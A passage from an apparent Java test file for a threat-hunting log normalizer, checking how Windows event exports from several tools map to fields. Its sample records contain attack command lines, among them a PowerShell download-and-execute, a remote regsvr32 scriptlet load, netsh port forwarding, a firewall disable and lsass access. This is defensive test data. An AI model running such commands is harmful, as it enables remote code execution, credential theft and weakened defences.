package org.huntindex.normalize;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Instant;
import java.util.List;
import org.huntindex.schema.Field;
import org.huntindex.source.RawRecord;
import org.junit.jupiter.api.Test;

class NormalizerTest {
  private final Normalizer normalizer = new Normalizer();

  /** A record of these name and value pairs, as a JSON reader would give it. */
  static RawRecord json(Object... pairs) {
    RawRecord r = new RawRecord("json", "t.json", 7);
    for (int i = 0; i < pairs.length; i += 2) {
      r.add((String) pairs[i], pairs[i + 1]);
    }
    return r;
  }

  private static long ticks(String iso) {
    return Ticks.of(Instant.parse(iso));
  }

  /** Whether the event kept {@code name} = {@code value} among its raw fields. */
  static boolean hasRaw(Event e, String name, String value) {
    for (int i = 0; i < e.rawSize(); i++) {
      if (e.rawName(i).equals(name) && e.rawValue(i).equals(value)) {
        return true;
      }
    }
    return false;
  }

  @Test
  void sentinelSecurityEventRowKeepsItsProcessAndAccountColumns() {
    Event e = normalizer.normalize(json("EventID", 4688L, "Process", "C:\\Windows\\System32\\cmd.exe",
        "CommandLine", "cmd.exe /c ping 8.8.8.80", "Computer", "WS1.contoso.com", "Account", "CONTOSO\\alice",
        "TimeGenerated", "2024-05-01T10:00:00Z"));
    assertEquals("sentinel", e.string(Field.INPUT_TYPE));
    assertEquals("Security", e.string(Field.WINLOG_CHANNEL));
    assertEquals(4688L, e.number(Field.EVENT_CODE));
    assertEquals("C:\\Windows\\System32\\cmd.exe", e.string(Field.KQL_PROCESS));
    assertEquals("cmd.exe", e.string(Field.PROCESS_NAME));
    assertEquals("CONTOSO\\alice", e.string(Field.KQL_ACCOUNT));
    assertEquals("WS1.contoso.com", e.string(Field.HOST_NAME));
    assertEquals(ticks("2024-05-01T10:00:00Z"), e.number(Field.TIMESTAMP));
    assertEquals("8.8.8.80", e.string(Field.KQL_IP));
    assertEquals("windows", e.string(Field.HOST_OS_TYPE));
    assertEquals(7L, e.number(Field.LOG_FILE_LINE));
    assertEquals("t.json", e.string(Field.LOG_FILE_PATH));
  }

  @Test
  void aSentinelEventTableRowOfSysmonIsASysmonEvent() {
    // the legacy agent's Event table: EventLog and Source name the log, EventData is XML in a DataItem
    String data = "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:01Z\"><EventData "
        + "xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"UtcTime\">2024-05-01 "
        + "10:00:01.000</Data><Data Name=\"ProcessGuid\">{11111111-2222-3333-4444-555555555555}</Data><Data "
        + "Name=\"ProcessId\">4242</Data><Data Name=\"Image\">C:\\Windows\\System32\\cmd.exe</Data><Data "
        + "Name=\"DestinationIp\">8.8.4.4</Data><Data Name=\"DestinationPort\">80</Data></EventData></DataItem>";
    Event e = normalizer.normalize(json("TimeGenerated", "2024-05-01T10:00:02Z", "Source", "Microsoft-Windows-Sysmon",
        "EventLog", "Microsoft-Windows-Sysmon/Operational", "Computer", "WS1", "EventID", 3L, "EventData", data,
        "Type", "Event"));
    assertEquals("Microsoft-Windows-Sysmon/Operational", e.string(Field.WINLOG_CHANNEL));
    assertEquals("Microsoft-Windows-Sysmon", e.string(Field.EVENT_PROVIDER));
    assertEquals("{11111111-2222-3333-4444-555555555555}", e.string(Field.PROCESS_ENTITY_ID));
    assertEquals("cmd.exe", e.string(Field.PROCESS_NAME));
    assertEquals("8.8.4.4", e.string(Field.DESTINATION_IP));
    assertEquals(List.of("network"), e.all(Field.EVENT_CATEGORY));
    assertEquals(ticks("2024-05-01T10:00:01Z"), e.number(Field.TIMESTAMP));
  }

  @Test
  void aKibanaCsvRowIsTimedByItsFormattedTimestamp() {
    Event e = normalizer.normalize(json("@timestamp", "May 1, 2024 @ 10:00:00.123", "host.name", "WS1",
        "event.code", "4688", "process.command_line", "cmd.exe /c whoami"));
    assertEquals(ticks("2024-05-01T10:00:00.123Z"), e.number(Field.TIMESTAMP));
    assertFalse(hasRaw(e, "@timestamp", "May 1, 2024 @ 10:00:00.123"));
  }

  @Test
  void aGetWinEventObjectGivesItsSystemPartAndMessageAndKeepsItsUnnamedDataRaw() {
    Event e = normalizer.normalize(json("Message", "A new process has been created.", "Id", 4688L, "Version", 2L,
        "RecordId", 1953327L, "ProviderName", "Microsoft-Windows-Security-Auditing", "LogName", "Security",
        "MachineName", "fs01.offsec.lan", "TimeCreated", "/Date(1622722334695)/", "ProcessId", 4L,
        "Properties.Value", "S-1-5-18",
        "Properties.Value", "C:\\Windows\\System32\\netsh.exe"));
    assertEquals("get-winevent", e.string(Field.INPUT_TYPE));
    assertEquals(4688L, e.number(Field.EVENT_CODE));
    assertEquals("Security", e.string(Field.WINLOG_CHANNEL));
    assertEquals("fs01.offsec.lan", e.string(Field.HOST_NAME));
    assertEquals("Microsoft-Windows-Security-Auditing", e.string(Field.EVENT_PROVIDER));
    assertEquals(1953327L, e.number(Field.WINLOG_RECORD_ID));
    assertEquals(ticks("2021-06-03T12:12:14.695Z"), e.number(Field.TIMESTAMP));
    assertEquals("A new process has been created.", e.string(Field.MESSAGE));
    assertTrue(hasRaw(e, "Properties.Value", "C:\\Windows\\System32\\netsh.exe"));
    assertNull(e.get(Field.PROCESS_EXECUTABLE), "positional data names nothing");
    // the process that logged the event, not a 4688's creator
    assertNull(e.get(Field.PARENT_PID));
    assertTrue(hasRaw(e, "System.Execution.ProcessID", "4"));
  }

  @Test
  void aGetWinEventObjectWhoseLayoutIsKnownNamesItsDataAsItsEvtxRecordWould() {
    // a 4688 of 13 values, TargetUserSid exported deeper than ConvertTo-Json's default: an object whose text is Value
    Event e = normalizer.normalize(json("Id", 4688L, "ProviderName", "Microsoft-Windows-Security-Auditing",
        "LogName", "Security", "MachineName", "WS1", "TimeCreated", "/Date(1622722334695)/",
        "Properties.Value", "S-1-5-18", "Properties.Value", "WS1$", "Properties.Value", "CORP",
        "Properties.Value", 999L, "Properties.Value", 7884L, "Properties.Value", "C:\\Windows\\System32\\cmd.exe",
        "Properties.Value", "%%1936", "Properties.Value", 532L, "Properties.Value", "cmd.exe /c ping 8.8.8.8",
        "Properties.Value.BinaryLength", 12L, "Properties.Value.Value", "S-1-0-0",
        "Properties.Value", "-", "Properties.Value", "-", "Properties.Value", 0L));
    assertEquals("cmd.exe /c ping 8.8.8.8", e.string(Field.PROCESS_COMMAND_LINE));
    assertEquals("C:\\Windows\\System32\\cmd.exe", e.string(Field.PROCESS_EXECUTABLE));
    assertEquals("cmd.exe", e.string(Field.PROCESS_NAME));
    assertEquals(7884L, e.number(Field.PROCESS_PID));
    assertEquals(532L, e.number(Field.PARENT_PID));
    assertEquals("WS1$", e.string(Field.USER_NAME));
    assertTrue(hasRaw(e, "TargetUserSid", "S-1-0-0"));
    assertTrue(hasRaw(e, "TokenElevationType", "%%1936"));
    assertFalse(hasRaw(e, "Properties.Value", "S-1-5-18"));
    assertFalse(hasRaw(e, "Properties.Value.BinaryLength", "12"));
    // one value more than any 4688 layout: unnamed, as before
    Event odd = normalizer.normalize(json("Id", 4688L, "ProviderName", "Microsoft-Windows-Security-Auditing",
        "LogName", "Security", "MachineName", "WS1", "Properties.Value", "S-1-5-18", "Properties.Value", "WS1$",
        "Properties.Value", "CORP", "Properties.Value", 999L, "Properties.Value", 7884L, "Properties.Value", "x.exe",
        "Properties.Value", "%%1936", "Properties.Value", 532L, "Properties.Value", "x", "Properties.Value", "y"));
    assertNull(odd.get(Field.PROCESS_EXECUTABLE));
    assertTrue(hasRaw(odd, "Properties.Value", "x.exe"));
  }

  @Test
  void aGetWinEventScriptBlockTakesItsNames() {
    Event e = normalizer.normalize(json("Id", 4104L, "ProviderName", "Microsoft-Windows-PowerShell",
        "LogName", "Microsoft-Windows-PowerShell/Operational", "MachineName", "WS1", "Properties.Value", 1L,
        "Properties.Value", 1L, "Properties.Value", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        "Properties.Value", "285fc71a-1d15-482e-8122-177248f5d0ab", "Properties.Value", ""));
    assertTrue(hasRaw(e, "ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"));
    assertTrue(hasRaw(e, "ScriptBlockId", "285fc71a-1d15-482e-8122-177248f5d0ab"));
    assertFalse(hasRaw(e, "Properties.Value", "1"));
  }

  @Test
  void aProcessIdNoNumberReadsStaysARawFieldAsWritten() {
    Event e = normalizer.normalize(json("EventID", 4688L, "Channel", "Security", "Hostname", "WS1",
        "NewProcessId", "0xZZ", "ProcessId", "0x21c8", "NewProcessName", "C:\\Windows\\System32\\cmd.exe"));
    assertNull(e.get(Field.PROCESS_PID));
    assertTrue(hasRaw(e, "NewProcessId", "0xZZ"));
    assertEquals(0x21c8L, e.number(Field.PARENT_PID));
    assertFalse(hasRaw(e, "ProcessId", "0x21c8"));
  }

  @Test
  void aCopyOfAnAbsentFieldLeavesAnEarlierCopyInPlace() {
    Event e = normalizer.normalize(json("EventID", 5156L, "Channel", "Security", "Hostname", "WS1",
        "ProcessId", "4", "Application", "System"));
    assertEquals(4L, e.number(Field.PROCESS_PID));
  }

  @Test
  void failedLogonNamesTheTargetAccountAndItsSource() {
    Event e = normalizer.normalize(json("EventID", 4625L, "Channel", "Security", "Hostname", "DC1", "@timestamp",
        "2024-05-01T10:00:00Z", "SubjectUserName", "-", "TargetUserName", "administrator", "TargetDomainName", "CORP",
        "IpAddress", "185.199.108.153", "IpPort", "51515", "LogonType", "3"));
    assertEquals("administrator", e.string(Field.USER_NAME));
    assertEquals("CORP", e.string(Field.USER_DOMAIN));
    assertEquals("185.199.108.153", e.string(Field.SOURCE_IP));
    assertEquals(51515L, e.number(Field.SOURCE_PORT));
    assertEquals("failure", e.string(Field.EVENT_OUTCOME));
    assertEquals(List.of("authentication"), e.all(Field.EVENT_CATEGORY));
    assertTrue(hasRaw(e, "LogonType", "3"));
  }

  @Test
  void stringEventIdIsAccepted() {
    Event e = normalizer.normalize(json("EventID", "4688", "Computer", "h", "TimeGenerated", "2024-05-01T10:00:00Z"));
    assertEquals(4688L, e.number(Field.EVENT_CODE));
  }

  @Test
  void nxlogSecurity4688UsesTheEventHostNotTheCollector() {
    Event e = normalizer.normalize(json("EventID", 4688L, "Channel", "Security", "Hostname",
        "WORKSTATION5.mordor.local", "host", "wec.internal.cloudapp.net", "@timestamp", "2020-07-22T03:27:53.590Z",
        "EventTime", "2020-07-21 23:27:52", "SubjectUserName", "pgustavo", "SubjectDomainName", "MORDOR",
        "NewProcessName", "C:\\Windows\\System32\\regsvr32.exe", "NewProcessId", "0x24a8", "ProcessId", "0x21c8",
        "CommandLine", "\"C:\\windows\\system32\\regsvr32.exe\" /s /i:http://10.10.10.5:8444/launcher.sct scrobj.dll",
        "ParentProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "RecordNumber",
        253299L));
    assertEquals("nxlog", e.string(Field.INPUT_TYPE));
    assertEquals("WORKSTATION5.mordor.local", e.string(Field.HOST_NAME));
    assertEquals(ticks("2020-07-22T03:27:53.590Z"), e.number(Field.TIMESTAMP));
    assertEquals("regsvr32.exe", e.string(Field.KQL_PROCESS));
    assertEquals("MORDOR\\pgustavo", e.string(Field.KQL_ACCOUNT));
    assertEquals(0x24a8L, e.number(Field.PROCESS_PID));
    assertEquals(0x21c8L, e.number(Field.PARENT_PID));
    assertEquals("powershell.exe", e.string(Field.PARENT_NAME));
    assertEquals(253299L, e.number(Field.WINLOG_RECORD_ID));
    assertEquals(List.of("process"), e.all(Field.EVENT_CATEGORY));
    assertTrue(hasRaw(e, "EventTime", "2020-07-21 23:27:52"));
    assertTrue(hasRaw(e, "host", "wec.internal.cloudapp.net"));
  }

  @Test
  void sysmonTimeIsUtcTimeAndTheZeroGuidIsDropped() {
    Event e = normalizer.normalize(json("EventID", 1L, "Channel", "Microsoft-Windows-Sysmon/Operational",
        "Hostname", "WS5", "TimeCreated", "2021-06-11T09:07:15.635Z", "UtcTime", "2021-06-12 01:07:15.633",
        "ProcessGuid", "{00000000-0000-0000-0000-000000000000}", "Image", "C:\\Windows\\System32\\PING.EXE",
        "User", "WS5\\apt", "CommandLine", "ping -n 3 127.0.0.1"));
    assertEquals(ticks("2021-06-12T01:07:15.633Z"), e.number(Field.TIMESTAMP));
    assertNull(e.get(Field.PROCESS_ENTITY_ID));
    assertEquals("PING.EXE", e.string(Field.PROCESS_NAME));
    assertEquals("apt", e.string(Field.USER_NAME));
    assertEquals("WS5", e.string(Field.USER_DOMAIN));
    assertEquals(List.of("WS5\\apt"), java.util.stream.IntStream.range(0, e.rawSize())
        .filter(i -> e.rawName(i).equals("User")).mapToObj(e::rawValue).toList(), "User kept whole, as rules query it");
    assertEquals(List.of("start"), e.all(Field.EVENT_TYPE));
    assertNull(e.get(Field.KQL_PROCESS));
  }

  @Test
  void nxlogDataWrittenXmlEscapedIsReadAsItsMessageShowsIt() {
    Event e = normalizer.normalize(json("EventID", 4688L, "Channel", "security", "Hostname", "WS5",
        "NewProcessName", "C:\\Windows\\System32\\cmd.exe",
        "CommandLine", "cmd /c gpresult /v 1&gt; out.txt 2&gt;&amp;1",
        "TaskContentNew", "<Arguments>a &amp;&amp; b</Arguments>",
        "Message", "A new process has been created.\r\n\tProcess Command Line:\tcmd /c gpresult /v 1> out.txt 2>&1"
            + "\r\n\tTask Content:\t<Arguments>a &amp;&amp; b</Arguments>"));
    assertEquals("cmd /c gpresult /v 1> out.txt 2>&1", e.string(Field.PROCESS_COMMAND_LINE));
    // entities the message shows too are the value's own, even where the message also holds the value unescaped
    assertTrue(hasRaw(e, "TaskContentNew", "<Arguments>a &amp;&amp; b</Arguments>"));
    Event shortValue = normalizer.normalize(json("EventID", 4688L, "Channel", "Security", "Hostname", "WS5",
        "Status", "&amp;", "Message", "Status:\t&amp;\r\nCommand:\ta & b"));
    assertTrue(hasRaw(shortValue, "Status", "&amp;"));
    // without a message there is nothing to tell by
    Event bare = normalizer.normalize(json("EventID", 4688L, "Channel", "security", "Hostname", "WS5",
        "CommandLine", "cmd /c x 1&gt; out.txt"));
    assertEquals("cmd /c x 1&gt; out.txt", bare.string(Field.PROCESS_COMMAND_LINE));
  }

  @Test
  void aSysmonProcessAccessIsItsSourceProcesssEvent() {
    Event e = normalizer.normalize(json("EventID", 10L, "Channel", "Microsoft-Windows-Sysmon/Operational",
        "Hostname", "WS5", "UtcTime", "2021-06-12 01:07:15.633", "SourceProcessGUID", "{aaaa-1}",
        "SourceProcessId", "4242", "SourceThreadId", "77", "SourceImage", "C:\\Windows\\System32\\rundll32.exe",
        "TargetProcessGUID", "{bbbb-2}", "TargetProcessId", "700", "TargetImage", "C:\\Windows\\system32\\lsass.exe",
        "GrantedAccess", "0x1fffff"));
    assertEquals("rundll32.exe", e.string(Field.PROCESS_NAME));
    assertEquals("{aaaa-1}", e.string(Field.PROCESS_ENTITY_ID));
    assertEquals(4242L, e.number(Field.PROCESS_PID));
    assertEquals(ticks("2021-06-12T01:07:15.633Z"), e.number(Field.TIMESTAMP));
    assertTrue(hasRaw(e, "TargetImage", "C:\\Windows\\system32\\lsass.exe"));
    assertNull(e.get(Field.EVENT_CATEGORY), "no hunt takes it for a process start");
    Event thread = normalizer.normalize(json("EventID", 8L, "Channel", "Microsoft-Windows-Sysmon/Operational",
        "Hostname", "WS5", "SourceProcessGuid", "{cccc-3}", "SourceImage", "C:\\Temp\\inject.exe",
        "TargetImage", "C:\\Windows\\explorer.exe"));
    assertEquals("inject.exe", thread.string(Field.PROCESS_NAME));
    assertEquals("{cccc-3}", thread.string(Field.PROCESS_ENTITY_ID));
  }

  @Test
  void sysmonHashesAreAlsoOneFieldPerAlgorithm() {
    String hashes = "SHA1=1954555DB5C60069C4D501CA0C4F7FD47D9BC6F1,MD5=BCD77D0E06A6E2EBB22B3106E2AB67A3,"
        + "SHA256=93CA15C84D667849D8B9D9E79D24CFC08624BCE0F4B591DBDB153B40358E83A1,IMPHASH=,X=1";
    Event e = normalizer.normalize(json("EventID", 7L, "Channel", "Microsoft-Windows-Sysmon/Operational",
        "Hostname", "WS5", "UtcTime", "2021-06-12 01:07:15.633", "Image", "C:\\Windows\\System32\\cmd.exe",
        "ImageLoaded", "C:\\Windows\\System32\\ntdll.dll", "Hashes", hashes));
    assertTrue(hasRaw(e, "SHA256", "93CA15C84D667849D8B9D9E79D24CFC08624BCE0F4B591DBDB153B40358E83A1"));
    assertTrue(hasRaw(e, "MD5", "BCD77D0E06A6E2EBB22B3106E2AB67A3"));
    assertTrue(hasRaw(e, "SHA1", "1954555DB5C60069C4D501CA0C4F7FD47D9BC6F1"));
    assertTrue(hasRaw(e, "Hashes", hashes), "kept whole, as rules query it");
    for (int i = 0; i < e.rawSize(); i++) {
      assertTrue(!e.rawName(i).equals("IMPHASH") && !e.rawName(i).equals("X"), e.rawName(i));
    }
    // a hash the record names on its own keeps its value
    Event own = normalizer.normalize(json("EventID", 1L, "Channel", "Microsoft-Windows-Sysmon/Operational",
        "Hostname", "WS5", "Hashes", "MD5=AA", "MD5", "BB"));
    assertTrue(hasRaw(own, "MD5", "BB") && !hasRaw(own, "MD5", "AA"));
  }

  @Test
  void sysmonRecordWithoutUtcTimeKeepsTheRecordTime() {
    Event e = normalizer.normalize(json("EventID", 1L, "Channel", "Microsoft-Windows-Sysmon/Operational",
        "Hostname", "WS5", "TimeCreated", "2021-06-11T09:07:15.635Z", "Image", "C:\\Windows\\System32\\PING.EXE"));
    assertEquals(ticks("2021-06-11T09:07:15.635Z"), e.number(Field.TIMESTAMP));
    assertEquals("PING.EXE", e.string(Field.PROCESS_NAME));
  }

  @Test
  void profilesMatchTheChannelWithAsciiCaseIgnoredOnly() {
    Event upper = normalizer.normalize(json("EventID", 3L, "Channel", "MICROSOFT-WINDOWS-SYSMON/OPERATIONAL",
        "Hostname", "WS5", "UtcTime", "2021-06-12 01:07:15.633", "DestinationIp", "10.0.10.106", "Image",
        "C:\\Windows\\System32\\curl.exe"));
    assertEquals("10.0.10.106", upper.string(Field.DESTINATION_IP));
    assertEquals("curl.exe", upper.string(Field.PROCESS_NAME));
    Event otherSysmon = normalizer.normalize(json("EventID", 5L, "Channel", "microsoft-windows-sysmon/operational",
        "Hostname", "WS5", "UtcTime", "2021-06-12 01:07:15.633", "Image", "C:\\Windows\\System32\\curl.exe"));
    assertEquals("curl.exe", otherSysmon.string(Field.PROCESS_NAME));
    // U+017F LATIN SMALL LETTER LONG S upper-cases to S, but only A-Z fold: this is not the Security channel.
    Event longS = normalizer.normalize(json("EventID", 4688L, "Channel", "\u017Fecurity", "Hostname", "h",
        "NewProcessName", "C:\\Windows\\System32\\cmd.exe"));
    assertNull(longS.get(Field.PROCESS_EXECUTABLE));
    assertTrue(hasRaw(longS, "NewProcessName", "C:\\Windows\\System32\\cmd.exe"));
  }

  @Test
  void winlogbeatLegacySysmonNetworkMapsDestinationAndComputer() {
    Event e = normalizer.normalize(json("@timestamp", "2019-05-18T20:19:21.130Z", "host.name", "WECserver",
        "computer_name", "HR001.shire.com", "log_name", "Microsoft-Windows-Sysmon/Operational", "event_id", 3L,
        "record_number", "2187870", "event_data.UtcTime", "2019-05-07 11:32:37.933", "event_data.ProcessGuid",
        "{03ba39f5-50b2-5ce0-0000-00109995c501}", "event_data.Image",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "event_data.DestinationIp", "10.0.10.106",
        "event_data.DestinationPort", "443", "event_data.Initiated", "true", "event_data.Protocol", "tcp"));
    assertEquals("winlogbeat", e.string(Field.INPUT_TYPE));
    assertEquals("HR001.shire.com", e.string(Field.HOST_NAME));
    assertEquals("10.0.10.106", e.string(Field.DESTINATION_IP));
    assertEquals(443L, e.number(Field.DESTINATION_PORT));
    assertEquals("egress", e.string(Field.NETWORK_DIRECTION));
    assertEquals(List.of("start", "connection", "protocol"), e.all(Field.EVENT_TYPE));
    assertEquals(ticks("2019-05-07T11:32:37.933Z"), e.number(Field.TIMESTAMP));
    assertEquals("{03ba39f5-50b2-5ce0-0000-00109995c501}", e.string(Field.PROCESS_ENTITY_ID));
    assertEquals(2187870L, e.number(Field.WINLOG_RECORD_ID));
  }

  @Test
  void sentinelWindowsEventParsesEventDataJson() {
    Event e = normalizer.normalize(json("TimeGenerated", "2022-05-13T08:54:06.347Z", "Provider",
        "Microsoft-Windows-Sysmon", "Channel", "Microsoft-Windows-Sysmon/Operational", "Computer", "WORKSTATION5",
        "EventData", "{\"UtcTime\":\"2022-05-13T08:54:05.1230000Z\",\"ProcessGuid\":\"{f3329a35}\","
            + "\"Image\":\"C:\\\\x\\\\tomcat9.exe\",\"DestinationIp\":\"192.168.2.5\",\"QueryName\":null}",
        "EventID", 3L, "Type", "WindowsEvent"));
    assertEquals("Microsoft-Windows-Sysmon/Operational", e.string(Field.WINLOG_CHANNEL));
    assertEquals("tomcat9.exe", e.string(Field.PROCESS_NAME));
    assertEquals("192.168.2.5", e.string(Field.DESTINATION_IP));
    assertEquals(ticks("2022-05-13T08:54:05.123Z"), e.number(Field.TIMESTAMP));
  }

  @Test
  void sentinelSecurityEventParsesEventDataXml() {
    Event e = normalizer.normalize(json("TimeGenerated", "2022-05-13T08:54:05.21Z", "Computer", "WORKSTATION5",
        "Channel", "Security", "EventID", 5156L, "EventData",
        "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"ProcessID\">3936"
            + "</Data>\r\n  <Data Name=\"Application\">\\device\\harddiskvolume2\\x\\tomcat9.exe</Data>\r\n"
            + "  <Data Name=\"Direction\">%%14592</Data><Data Name=\"DestAddress\">192.168.2.5</Data>"
            + "<Data Name=\"Protocol\">6</Data></EventData>"));
    assertEquals("tomcat9.exe", e.string(Field.PROCESS_NAME));
    assertEquals(3936L, e.number(Field.PROCESS_PID));
    assertEquals("ingress", e.string(Field.NETWORK_DIRECTION));
    assertEquals("tcp", e.string(Field.NETWORK_TRANSPORT));
    assertEquals("192.168.2.5", e.string(Field.DESTINATION_IP));
    assertEquals(List.of("network"), e.all(Field.EVENT_CATEGORY));
  }

  @Test
  void anEvtxRecordRecoveredWithoutItsTemplateIsTimedByItsHeaderAndNeverOverridesTimeCreated() {
    RawRecord bare = new RawRecord("evtx", "a.evtx", 9).recovered(true)
        .add("Recovery.Value", "admmig").add("Recovery.Written", Instant.parse("2020-07-09T19:07:11.6431248Z"));
    Event e = normalizer.normalize(bare);
    assertEquals(ticks("2020-07-09T19:07:11.6431248Z"), e.number(Field.TIMESTAMP));
    assertTrue(hasRaw(e, "Recovery.Value", "admmig"));

    RawRecord timed = new RawRecord("evtx", "a.evtx", 10).recovered(true)
        .add("System.TimeCreated.SystemTime", Instant.parse("2021-01-01T00:00:00Z"))
        .add("Recovery.Written", Instant.parse("2020-07-09T19:07:11Z"));
    assertEquals(ticks("2021-01-01T00:00:00Z"), normalizer.normalize(timed).number(Field.TIMESTAMP));
  }

  @Test
  void evtxDumpJsonIsReadLikeTheNativeReader() {
    Event e = normalizer.normalize(json("Event.#attributes.xmlns", "http://schemas.microsoft.com/win/2004/08/events/event",
        "Event.System.Provider.#attributes.Name", "Microsoft-Windows-Security-Auditing", "Event.System.EventID", 4688L,
        "Event.System.TimeCreated.#attributes.SystemTime", "2021-06-03T12:17:58.582712Z",
        "Event.System.EventRecordID", 1953363L, "Event.System.Channel", "Security", "Event.System.Computer",
        "fs01.offsec.lan", "Event.EventData.NewProcessName", "C:\\Windows\\System32\\netsh.exe",
        "Event.EventData.CommandLine", "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1",
        "Event.EventData.SubjectUserName", "admin", "Event.EventData.SubjectDomainName", "OFFSEC"));
    assertEquals("evtx_dump", e.string(Field.INPUT_TYPE));
    assertEquals("fs01.offsec.lan", e.string(Field.HOST_NAME));
    assertEquals(ticks("2021-06-03T12:17:58.582712Z"), e.number(Field.TIMESTAMP));
    assertEquals(1953363L, e.number(Field.WINLOG_RECORD_ID));
    assertEquals("netsh.exe", e.string(Field.KQL_PROCESS));
    assertEquals("OFFSEC\\admin", e.string(Field.KQL_ACCOUNT));
  }

  @Test
  void velociraptorParseEvtxRowsAreReadLikeTheNativeReader() {
    // Windows.EventLogs.* / parse_evtx(): no Event wrapper, EventID under Value, the time in Unix seconds
    Event e = normalizer.normalize(json("System.Provider.Name", "Microsoft-Windows-Security-Auditing",
        "System.EventID.Value", 4688L, "System.TimeCreated.SystemTime", 1622722678.5827126,
        "System.EventRecordID", 1953327L, "System.Execution.ProcessID", 4L, "System.Channel", "Security",
        "System.Computer", "fs01.offsec.lan", "EventData.NewProcessId", 7884L,
        "EventData.NewProcessName", "C:\\Windows\\System32\\netsh.exe", "EventData.ProcessId", 532L,
        "EventData.CommandLine", "netsh interface portproxy add v4tov4 connectaddress=1.1.1.1",
        "EventData.SubjectUserName", "admmig", "EventData.SubjectDomainName", "OFFSEC",
        "Message", "A new process has been created."));
    assertEquals("velociraptor", e.string(Field.INPUT_TYPE));
    assertEquals(4688L, e.number(Field.EVENT_CODE));
    assertEquals("fs01.offsec.lan", e.string(Field.HOST_NAME));
    // a double holds the seconds to within a tick
    assertTrue(Math.abs(ticks("2021-06-03T12:17:58.5827126Z") - e.number(Field.TIMESTAMP)) <= 1,
        e.string(Field.TIMESTAMP));
    assertEquals(1953327L, e.number(Field.WINLOG_RECORD_ID));
    assertEquals(7884L, e.number(Field.PROCESS_PID));
    assertEquals(532L, e.number(Field.PARENT_PID));
    assertEquals("netsh.exe", e.string(Field.KQL_PROCESS));
    assertEquals("OFFSEC\\admmig", e.string(Field.KQL_ACCOUNT));
    assertEquals("A new process has been created.", e.string(Field.MESSAGE));
    assertTrue(hasRaw(e, "System.Execution.ProcessID", "4"));
  }

  @Test
  void velociraptorArtifactRowsAreReadAsTheirEvents() {
    // Windows.EventLogs.EvtxHunter's columns; EventData an object in JSON, JSON text in a CSV export
    for (boolean csv : new boolean[] {false, true}) {
      // a hunt's results lead with the client's columns
      RawRecord r = json("ClientId", "C.1234", "EventTime", "2021-06-03T12:17:58Z", "Computer", "fs01.offsec.lan",
          "Channel", "Security",
          "Provider", "Microsoft-Windows-Security-Auditing", "EventID", 4688L, "EventRecordID", 1953327L,
          "UserSID", "S-1-5-18");
      if (csv) {
        r.add("EventData", "{\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\netsh.exe\",\"NewProcessId\":7884}");
      } else {
        r.add("EventData.NewProcessName", "C:\\Windows\\System32\\netsh.exe").add("EventData.NewProcessId", 7884L);
      }
      r.add("OSPath", "C:\\Windows\\System32\\winevt\\Logs\\Security.evtx");
      Event e = normalizer.normalize(r);
      assertEquals("velociraptor", e.string(Field.INPUT_TYPE), "csv " + csv);
      assertEquals(ticks("2021-06-03T12:17:58Z"), e.number(Field.TIMESTAMP));
      assertEquals("fs01.offsec.lan", e.string(Field.HOST_NAME));
      assertEquals(1953327L, e.number(Field.WINLOG_RECORD_ID));
      assertEquals("netsh.exe", e.string(Field.PROCESS_NAME), "csv " + csv);
      assertEquals(7884L, e.number(Field.PROCESS_PID));
      assertTrue(hasRaw(e, "OSPath", "C:\\Windows\\System32\\winevt\\Logs\\Security.evtx"));
    }
  }

  @Test
  void evtxECmdRowsTakeTheirPayloadsNames() {
    String payload = "{\"EventData\":{\"Data\":[{\"@Name\":\"SubjectUserName\",\"#text\":\"admmig\"},"
        + "{\"@Name\":\"SubjectDomainName\",\"#text\":\"OFFSEC\"},{\"@Name\":\"NewProcessId\",\"#text\":\"0x1ecc\"},"
        + "{\"@Name\":\"NewProcessName\",\"#text\":\"C:\\\\Windows\\\\System32\\\\netsh.exe\"},"
        + "{\"@Name\":\"ProcessId\",\"#text\":\"0x214\"},{\"@Name\":\"WorkstationName\"},"
        + "{\"@Name\":\"CommandLine\",\"#text\":\"netsh advfirewall set allprofiles state off\"}]}}";
    // the CSV's time: UTC, a space, seven digits
    Event e = normalizer.normalize(json("RecordNumber", 12L, "EventRecordId", 1953327L,
        "TimeCreated", "2021-06-03 12:17:58.5827126", "EventId", 4688L, "Level", "LogAlways",
        "Provider", "Microsoft-Windows-Security-Auditing", "Channel", "Security", "ProcessId", 4L, "ThreadId", 5512L,
        "Computer", "fs01.offsec.lan", "MapDescription", "A new process has been created",
        "PayloadData1", "Target: OFFSEC\\admmig", "SourceFile", "C:\\kape\\Security.evtx", "Payload", payload));
    assertEquals("evtxecmd", e.string(Field.INPUT_TYPE));
    assertEquals(ticks("2021-06-03T12:17:58.5827126Z"), e.number(Field.TIMESTAMP));
    assertEquals(4688L, e.number(Field.EVENT_CODE));
    assertEquals("fs01.offsec.lan", e.string(Field.HOST_NAME));
    assertEquals(1953327L, e.number(Field.WINLOG_RECORD_ID));
    assertEquals("netsh.exe", e.string(Field.PROCESS_NAME));
    assertEquals("netsh advfirewall set allprofiles state off", e.string(Field.PROCESS_COMMAND_LINE));
    assertEquals(0x1eccL, e.number(Field.PROCESS_PID));
    assertEquals(0x214L, e.number(Field.PARENT_PID));
    assertEquals("OFFSEC\\admmig", e.string(Field.KQL_ACCOUNT));
    assertTrue(hasRaw(e, "System.Execution.ProcessID", "4"));
    assertTrue(hasRaw(e, "MapDescription", "A new process has been created"));
    // a log cleared: its UserData named as the EVTX reader names it
    Event cleared = normalizer.normalize(json("EventRecordId", 9L, "TimeCreated", "2021-06-03T12:00:00+00:00",
        "EventId", 1102L, "Channel", "Security", "Computer", "fs01", "Payload",
        "{\"UserData\":{\"LogFileCleared\":{\"SubjectUserName\":\"admmig\",\"SubjectDomainName\":\"OFFSEC\"}}}"));
    assertEquals(1102L, cleared.number(Field.EVENT_CODE));
